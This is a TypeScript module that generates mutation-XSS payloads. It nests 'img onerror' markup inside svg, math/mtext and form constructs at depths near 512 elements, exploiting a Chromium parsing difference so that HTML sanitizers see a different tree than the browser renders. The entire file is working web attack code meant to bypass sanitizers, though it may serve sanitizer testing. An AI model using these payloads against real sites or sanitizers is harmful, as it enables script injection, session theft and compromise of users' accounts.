// Depth: at 512 elements in each other Chromium begins to lay out the tree otherwise than the standard says, and a cleaner
// that goes by the standard's tree sees another page.

import type { Payload } from './payload.ts';

const depths = [500, 506, 508, 509, 510, 511, 512, 513, 514, 520];
const wrappers: Readonly<Record<string, readonly [string, string]>> = {
  'div': ['<div>', '</div>'],
  'svg': ['<svg>', '</svg>'],
  'math and mtext': ['<math><mtext>', '</mtext></math>'],
};
const inner: Readonly<Record<string, (run: string) => string>> = {
  'style in svg': (run) => `<svg><style>a{content:"<img src=x onerror=${run}>"}</style></svg><svg><title><style>a{content:"<img src=x onerror=${run}>"}</style></title></svg>`,
  'style in math': (run) => `<math><mtext><style>a{content:"<img src=x onerror=${run}>"}</style><img src=x onerror=${run}></mtext></math>`,
  'form in form': (run) => `<form><div></form><form><table><math><mtext><style><img src=x onerror=${run}></style></table></form>`,
};

export const nesting: readonly Payload[] = depths.flatMap((depth) =>
  Object.entries(wrappers).flatMap(([wrapper, [open, close]]) => {
    const times = wrapper === 'math and mtext' ? Math.round(depth / 2) : depth;
    return Object.entries(inner).map(([name, markup]): Payload => ({
      kind: 'nesting',
      name: `${name} in ${times} of ${wrapper}`,
      markup: ({ run }) => open.repeat(times) + markup(run) + close.repeat(times),
    }));
  }),
);
